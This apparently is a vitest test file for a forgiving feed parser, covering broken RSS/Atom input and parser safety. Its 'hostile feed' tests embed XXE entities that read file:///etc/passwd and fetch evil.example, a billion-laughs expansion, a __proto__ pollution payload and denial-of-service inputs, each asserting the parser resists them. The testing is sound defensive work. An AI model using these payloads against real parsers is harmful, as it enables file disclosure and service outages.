import { describe, expect, it } from "vitest";
import fc, { runs } from "../../test/properties.ts";
import { parseFeed } from "./parse-feed.ts";

const HERE = "https://example.com/feed";
const titles = (text: string) => {
  const outcome = parseFeed(text, HERE);
  return outcome.ok ? outcome.feed.items.map(({ title }) => title) : outcome.problem;
};
const TWO = "<item><guid>1</guid><title>One</title></item><item><guid>2</guid><title>Two</title></item>";
const rss = (inside: string) =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>${inside}</channel></rss>`;

describe("reads what it can of a broken feed", () => {
  it.each([
    ["junk before the prolog", `\n\n  junk ${rss(TWO)}`, ["One", "Two"]],
    [
      "a PHP warning before it",
      `<br />\n<b>Warning</b>: mysql() in <b>/x.php</b> on line <b>1</b><br />${rss(TWO)}`,
      ["One", "Two"],
    ],
    ["HTML around it", `<html><body>${rss(TWO)}</body></html>`, ["One", "Two"]],
    ["junk behind it", `${rss(TWO)}<script>x</script></div>`, ["One", "Two"]],
    ["cut after an item", rss(TWO).slice(0, rss(TWO).indexOf("</channel>")), ["One", "Two"]],
    [
      "cut inside a tag",
      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><enclosure url="htt`,
      ["One", "Two", "Three"],
    ],
    [
      "cut inside what identifies the last item",
      `<rss><channel>${TWO}<item><title>Three</title><guid>htt`,
      ["One", "Two"],
    ],
    [
      "cut inside a section",
      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><description><![CDATA[and so`,
      ["One", "Two", "Three"],
    ],
    [
      "an unescaped ampersand",
      rss("<item><title>Q&A & more</title><link>https://a.example/?a=1&b=2</link></item>"),
      ["Q&A & more"],
    ],
    [
      "undeclared entities",
      rss("<item><title>caf&eacute;&nbsp;&mdash;&hellip; &foo;</title></item>"),
      ["café —… &foo;"],
    ],
    [
      "an unclosed item",
      rss("<item><guid>1</guid><title>One</title><item><guid>2</guid><title>Two</title></item>"),
      ["One", "Two"],
    ],
    [
      "only unclosed items",
      rss(Array.from({ length: 300 }, (_, n) => `<item><guid>${n}</guid><title>${n}`).join("")),
      Array.from({ length: 300 }, (_, n) => String(n)),
    ],
    ["stray end tags", rss(`</p></div></item>${TWO}</b>`), ["One", "Two"]],
    [
      "other letter cases",
      "<RSS><Channel><Item><GUID>1</GUID><Title>One</Title><PubDate>x</PubDate></Item></Channel></RSS>",
      ["One"],
    ],
    ["no rss element", `<channel>${TWO}</channel>`, ["One", "Two"]],
    [
      "unescaped markup in a description",
      rss("<item><guid>1</guid><description>a<br>b <img src=x> <p>c</description><title>One</title></item>"),
      ["One"],
    ],
    [
      "an unclosed quote",
      rss(`<item><guid isPermaLink="false>0</guid><title>Zero</title></item>${TWO}`),
      ["Zero", "One", "Two"],
    ],
    [
      "a less-than sign in an attribute",
      rss('<item><guid>1</guid><enclosure url="/a" title="a < b"/><title>One</title></item>'),
      ["One"],
    ],
    ["an unclosed comment", rss(`<!-- oops ${TWO}`), ["One", "Two"]],
    ["a comment with an item in it", rss(`<!-- <item><title>No</title></item> -->${TWO}`), ["One", "Two"]],
    ["no dates, empty items", rss(`<item/><item></item><item> </item>${TWO}`), ["One", "Two"]],
    [
      "zero bytes and control characters",
      rss("<item><title>O\u0000n\u0001e&#0;&#xD800;&#1114112;</title></item>"),
      ["One\ufffd\ufffd\ufffd"],
    ],
    [
      "two sections in one",
      rss("<item><title><![CDATA[O]]><![CDATA[ne]]> &amp; <![CDATA[all]]></title></item>"),
      ["One & all"],
    ],
    [
      "a prefix for everything",
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>One</a:title></a:entry></a:feed>',
      ["One"],
    ],
    ["an empty channel", rss(""), []],
    [
      "a bracket in the name of a doctype",
      `<!DOCTYPE rss PUBLIC "-//x[y//DTD z>w//EN" 'http://a.example/]'>${rss(TWO)}`,
      ["One", "Two"],
    ],
    [
      "a doctype with brackets in its quotes and comments",
      `<!DOCTYPE rss [<!-- don't ]> --><!ENTITY a "]>"><!ENTITY b '<b>">']>${rss(TWO)}`,
      ["One", "Two"],
    ],
    ["a doctype with an unclosed subset", `<!DOCTYPE rss [ <!ENTITY a "b"> ${rss(`${TWO}<!-- ] -->`)}`, ["One", "Two"]],
    ["a doctype with an unclosed quote", `<!DOCTYPE rss PUBLIC "-//x>${rss(TWO)}`, ["One", "Two"]],
    ["an unclosed doctype", `<!DOCTYPE rss ${rss(TWO)}`, ["One", "Two"]],
    [
      "an element left open before the items",
      `<rss><channel><image><url>u</url>${TWO}</channel></rss>`,
      ["One", "Two"],
    ],
    ["a section left open before the items", rss(`<description><![CDATA[About</description>${TWO}`), ["One", "Two"]],
    [
      "fields left open in an item",
      rss("<item><title>One<link>https://a.example/1<guid>1<pubDate>x<category>c<description>d</item>"),
      ["One"],
    ],
    [
      "links that are not closed, as in HTML",
      '<feed><entry><link href="https://a.example/1" rel="alternate"><id>1</id><title>One</title></entry></feed>',
      ["One"],
    ],
    ["items after the end of the channel", `<rss><channel><title>F</title></channel>${TWO}</rss>`, ["One", "Two"]],
    ["items after the end of everything", `<rss><channel><title>F</title></channel></rss>${TWO}`, ["One", "Two"]],
    ["the last item not closed", rss(`${TWO}<item><guid>3</guid><title>Three</title>`), ["One", "Two", "Three"]],
  ])("%s", (_, text, expected) => expect(titles(text)).toEqual(expected));

  it("a cut item keeps its key, so the whole one replaces it next time", () => {
    const whole = rss("<item><guid>3</guid><title>Three</title><description>all of it</description></item>");
    const cut = whole.slice(0, whole.indexOf("of it"));
    const keys = [whole, cut].map((text) => {
      const outcome = parseFeed(text, HERE);
      return outcome.ok && outcome.feed.items[0]?.key;
    });
    expect(keys).toEqual(["3", "3"]);
  });
});

/** Of each format, with everything that may stand before the items. */
const WHOLE: [string, string][] = [
  [
    "RSS",
    `<?xml version="1.0"?><rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel>
      <title>F</title><link>https://a.example/</link><description>About <b>tea</b></description><language>en</language>
      <atom:link rel="self" href="/feed"></atom:link><image><url>/i.png</url><title>I</title><link>https://a.example/</link></image>
      <itunes:owner><itunes:name>N</itunes:name><itunes:email>m@a.example</itunes:email></itunes:owner>
      <itunes:category text="Arts"><itunes:category text="Food"></itunes:category></itunes:category>
      <textInput><title>S</title><name>q</name></textInput><skipHours><hour>1</hour><hour>2</hour></skipHours>
      <category>c</category><pubDate>x</pubDate><ttl>60</ttl>${TWO}</channel></rss>`,
  ],
  [
    "RDF",
    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://a.example/">
      <title>F</title><link>https://a.example/</link><description>D</description><image rdf:resource="/i.png"></image>
      <items><rdf:Seq><rdf:li resource="1"></rdf:li><rdf:li resource="2"></rdf:li></rdf:Seq></items></channel>
      <image rdf:about="/i.png"><title>I</title><url>/i.png</url></image>${TWO}</rdf:RDF>`,
  ],
  [
    "Atom",
    `<feed xmlns="http://www.w3.org/2005/Atom"><id>f</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><b>F</b></div></title>
      <subtitle>S</subtitle><link href="https://a.example/"></link><author><name>N</name><uri>u</uri></author>
      <contributor><name>M</name></contributor><updated>x</updated><generator>G</generator><logo>/i.png</logo>
      ${TWO.replaceAll("item>", "entry>").replaceAll("guid>", "id>")}</feed>`,
  ],
  [
    "Atom with a prefix",
    `<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:id>f</a:id><a:title>F</a:title><a:author><a:name>N</a:name></a:author>
      ${TWO.replaceAll("item>", "entry>")
        .replaceAll("guid>", "id>")
        .replaceAll("</", "</a:")
        .replaceAll(/<(?!\/)/g, "<a:")}</a:feed>`,
  ],
];

describe.each(WHOLE)("%s with one end tag missing", (_, whole) => {
  const first = whole.search(/<(?:a:)?(?:item|entry)>/);
  const tags = [...whole.matchAll(/<\/[\w:]+>/g)];
  it.each(tags.filter(({ index }) => index < first).map((tag) => [tag[0], tag.index, tag[0].length] as const))(
    "before the items: %s at %d",
    (_, at, length) => expect(titles(whole.slice(0, at) + whole.slice(at + length))).toEqual(["One", "Two"]),
  );
  it.each(tags.filter(({ index }) => index > first).map((tag) => [tag[0], tag.index, tag[0].length] as const))(
    "after the first item began: %s at %d",
    (_, at, length) => expect(titles(whole.slice(0, at) + whole.slice(at + length))).toEqual(["One", "Two"]),
  );
  it("keeps all complete items of a document that is truncated anywhere", () => {
    const ends = [...whole.matchAll(/<\/(?:a:)?(?:item|entry)>/g)].map(({ index }) => index);
    for (let length = first; length < whole.length; length++) {
      const complete = ends.filter((end) => end < length).length;
      const found = titles(whole.slice(0, length));
      expect(found.length, `cut at ${length}`).toBeGreaterThanOrEqual(complete);
      expect(["One", "Two"].slice(0, complete)).toEqual(found.slice(0, complete));
    }
  });
});

it("reads a feed behind any doctype", () => {
  const feed = rss(`<description>It's "so"</description>${TWO}`);
  const piece = fc.constantFrom(
    '"',
    "'",
    "[",
    "]",
    ">",
    "-//",
    "PUBLIC",
    "SYSTEM",
    " ",
    "x",
    "&",
    "%",
    ";",
    "--",
    "<!--",
    "-->",
    '<!ENTITY a "b">',
    "<!ELEMENT a>",
    "<?x?>",
    "]]>",
    "<![CDATA[",
    "<",
    "'s",
    "http://a.example/x.dtd",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      expect(titles(`<?xml version="1.0"?><!DOCTYPE rss ${pieces.join("")}>\n${feed}`)).toEqual(["One", "Two"]);
    }),
    { numRuns: runs(1000) },
  );
});

describe("entities of the doctype", () => {
  it.each([
    ["a name", '<!ENTITY tea "Green tea">', "&tea;", "Green tea"],
    ["in single quotes", "<!ENTITY tea 'Green \"tea\"'>", "&tea;", 'Green "tea"'],
    ["a character", '<!ENTITY tea "&#8217;&#xe9;">', "It&tea;", "It’é"],
    ["one inside another", '<!ENTITY a "x"><!ENTITY b "&a;&a;">', "&b;", "xx"],
    ["the first declaration counts", '<!ENTITY a "x"><!ENTITY a "y">', "&a;", "x"],
    ["not those of XML", '<!ENTITY amp "x">', "&amp;", "&"],
    ["one of HTML with another meaning", '<!ENTITY copy "Copyright">', "&copy;", "Copyright"],
    ["not inside a section", '<!ENTITY a "x">', "<![CDATA[&a;]]>", "&a;"],
    ["itself", '<!ENTITY a "&a;">', "&a;", "&a;"],
    ["files are not read", '<!ENTITY a SYSTEM "file:///etc/passwd">', "[&a;]", "[&a;]"],
    ["addresses are not fetched", '<!ENTITY a PUBLIC "x" "http://a.example/">', "[&a;]", "[&a;]"],
  ])("%s", (_, declared, written, title) => {
    const text = `<!DOCTYPE rss [${declared}]>${rss(`<item><guid>1</guid><title>${written}</title></item>`)}`;
    expect(titles(text)).toEqual([title]);
  });
  it("in attributes, and in text with markup", () => {
    const outcome = parseFeed(
      `<!DOCTYPE rss [<!ENTITY site "https://a.example">]><feed><title>F</title><entry><id>1</id><link href="&site;/1"/>
        <content type="xhtml"><p>&site; &amp; &lt;</p></content></entry></feed>`,
      HERE,
    );
    expect(outcome.ok && outcome.feed.items[0]).toMatchObject({
      link: "https://a.example/1",
      contentHtml: "<p>https://a.example &amp; &lt;</p>",
    });
  });
  it("become at most a million characters", () => {
    const text = `<!DOCTYPE rss [<!ENTITY a "${"x".repeat(9000)}">]>${rss(
      `<item><guid>1</guid><description>${"&a;".repeat(100_000)}</description></item>`,
    )}`;
    const outcome = parseFeed(text, HERE);
    expect(outcome.ok && outcome.feed.items[0]?.contentHtml.length).toBeLessThan(1_400_000);
  });
});

describe("a hostile feed", () => {
  it("reads no file and fetches nothing", () => {
    const text = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/">%p;]>
      <rss><channel><item><title>[&x;]</title></item></channel></rss>`;
    expect(titles(text)).toEqual(["[&x;]"]);
  });
  it("expands nothing", () => {
    const entities = Array.from({ length: 20 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
    const text = `<!DOCTYPE rss [<!ENTITY e0 "lol">${entities}]><rss><channel><item><title>&e20;</title></item></channel></rss>`;
    expect(titles(text)).toEqual(["&e20;"]);
  });
  it("removes what PostgreSQL cannot store: NUL and lone surrogates", () => {
    const bad = "a\\u0000b\\ud800c";
    const json = `{"version":"https://jsonfeed.org/version/1.1","title":"${bad}","items":[{"id":"${bad}","title":"${bad}",
      "summary":"${bad}","content_html":"${bad}","tags":["${bad}"],"authors":[{"name":"${bad}"}],
      "attachments":[{"url":"https://a.example/a.mp3","mime_type":"${bad}"}]}]}`;
    const xml = `<rss><channel><title>&#0;&#xD800;</title><item><guid>&#0;x&#xD800;</guid><title>a&#0;&#xD800;</title>
      <category>c&#0;&#xD800;</category><dc:creator>A&#xD800;</dc:creator><dc:creator>B&#0;</dc:creator><dc:rights>r&#xD800;</dc:rights>
      <psc:chapters><psc:chapter start="1" title="t&#0;&#xD800;"/></psc:chapters><podcast:license>l&#xD800;</podcast:license>
      <podcast:transcript url="https://a.example/t" type="x&#xD800;"/>
      <enclosure url="https://a.example/a.mp3" type="a&#0;&#xD800;"/></item></channel></rss>`;
    for (const text of [json, xml]) {
      const parsed = parseFeed(text, "https://a.example/");
      // Written as JSON, both would be escapes.
      expect(JSON.stringify(parsed)).not.toMatch(/\\u0000|\\ud800/);
      expect(parsed).toMatchObject({
        ok: true,
        feed: { items: [{ enclosures: [{ url: "https://a.example/a.mp3" }] }] },
      });
    }
  });

  it("treats names of Object's properties like any other", () => {
    const text =
      '{"title":"x","__proto__":{"polluted":1},"items":[{"id":"__proto__","title":"One"},{"id":"constructor","title":"Two"}]}';
    expect(titles(text)).toEqual(["One", "Two"]);
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
  });

  // Each is a megabyte or two that would take a quadratic parser many minutes.
  const MANY = 300_000;
  it.each([
    ["elements without end", `<rss><channel>${"<item>".repeat(MANY)}`],
    ["deep nesting", `<rss>${"<a>".repeat(MANY)}`],
    ["end tags only", `<rss>${"</a>".repeat(MANY)}`],
    ["unclosed tags", `<rss>${"<a ".repeat(MANY)}`],
    ["unclosed quotes", `<rss>${'<a b="'.repeat(MANY / 2)}${"<a b='".repeat(MANY / 2)}`],
    ["one tag of quotes", `<rss ${'""'.repeat(MANY)}`],
    ["unclosed comments", `<rss>${"<!--".repeat(MANY)}`],
    ["unclosed declarations", `<rss>${"<!x [".repeat(MANY)}`],
    ["ampersands", `<rss><channel><item><title>${"&".repeat(MANY)}</title></item></channel></rss>`],
    ["attributes", `<rss><channel><item><link ${"a".repeat(MANY)} ${"b=c ".repeat(MANY / 4)}/></item></channel></rss>`],
    [
      "a new name for every element",
      `<rss>${Array.from({ length: MANY / 10 }, (_, n) => `<x${n} xmlns:y${n}="z"/>`).join("")}`,
    ],
    [
      "less-than signs in a text",
      `<rss><channel><item><description><![CDATA[${"<".repeat(MANY)}]]></description></item></channel></rss>`,
    ],
    [
      "unclosed pictures",
      `<rss><channel><item><description><![CDATA[${"<img ".repeat(MANY)}]]></description></item></channel></rss>`,
    ],
    [
      "white space",
      `<rss><channel><item><title>${" ".repeat(MANY)}x${"\n".repeat(MANY)}</title></item></channel></rss>`,
    ],
    [
      "a date without end",
      `<rss><channel><item><title>x</title><pubDate>${"1 ".repeat(MANY)}</pubDate></item></channel></rss>`,
    ],
    ["white space alone", " ".repeat(MANY)],
    ["declarations", `<rss ${"xmlns:a='http://search.yahoo.com/mrss/' ".repeat(MANY / 20)}>`],
    [
      "a prefix that changes its meaning",
      `<rss>${"<a:b xmlns:a='http://search.yahoo.com/mrss/'/><a:b xmlns:a='http://purl.org/dc/terms/'/>".repeat(MANY / 20)}`,
    ],
    ["default namespaces", `<rss>${"<b xmlns='http://purl.org/dc/terms/'>".repeat(MANY / 10)}`],
    ["entities", `<!DOCTYPE rss [${'<!ENTITY a "b">'.repeat(MANY / 30)}]><rss>${"&a;".repeat(MANY)}`],
    ["a doctype of quotes", `<!DOCTYPE rss ${`"'`.repeat(MANY)}`],
    ["a doctype of declarations", `<!DOCTYPE rss [${"<!ENTITY ".repeat(MANY)}`],
    ["unclosed sections", `<rss><channel><item><title>${"<![CDATA[".repeat(MANY / 4)}`],
    ["titles in titles", `<rss><channel>${"<title>".repeat(MANY / 5)}`],
    [
      "entries with one id",
      `<rss><channel>${Array.from({ length: MANY / 30 }, (_, n) => `<item><guid>1</guid><title>${n}</title></item>`).join("")}`,
    ],
    ["people", `<rss><channel><item><guid>1</guid>${"<author>a</author><dc:creator/>".repeat(MANY / 10)}`],
    [
      "people with other names",
      `<rss><channel><item><guid>1</guid>${Array.from({ length: MANY / 30 }, (_, n) => `<author>a${n}</author>`).join("")}`,
    ],
    [
      "categories",
      `<rss><channel><item><guid>1</guid>${Array.from({ length: MANY / 10 }, (_, n) => `<category>a${n}</category>`).join("")}`,
    ],
    [
      "files",
      `<rss><channel><item><guid>1</guid>${Array.from({ length: MANY / 30 }, (_, n) => `<enclosure url="/${n}"/>`).join("")}`,
    ],
  ])("is read in linear time: %s", (_, text) => {
    expect(parseFeed(text, HERE)).toHaveProperty("ok");
  });

  it("never throws, whatever is removed or inserted", () => {
    const whole = rss(
      `${TWO}<item><title><![CDATA[x]]></title><link href="/a"/><enclosure url='b' length="1"/><description>&lt;p&gt;</description></item>`,
    );
    const piece = fc.constantFrom(
      "<",
      ">",
      "<![CDATA[",
      "]]>",
      "<!--",
      "-->",
      '"',
      "'",
      "&",
      "&#x",
      "</item>",
      "<item",
      "<?",
      "/>",
      "\u0000",
      "\ud800",
      "<!DOCTYPE [",
    );
    const edit = fc.tuple(fc.nat(whole.length), fc.nat(40), piece);
    fc.assert(
      fc.property(fc.array(edit, { maxLength: 6 }), (edits) => {
        let text = whole;
        for (const [at, length, put] of edits) text = text.slice(0, at) + put + text.slice(at + length);
        expect(parseFeed(text, HERE)).toHaveProperty("ok");
      }),
      { numRuns: runs(500) },
    );
  });
});
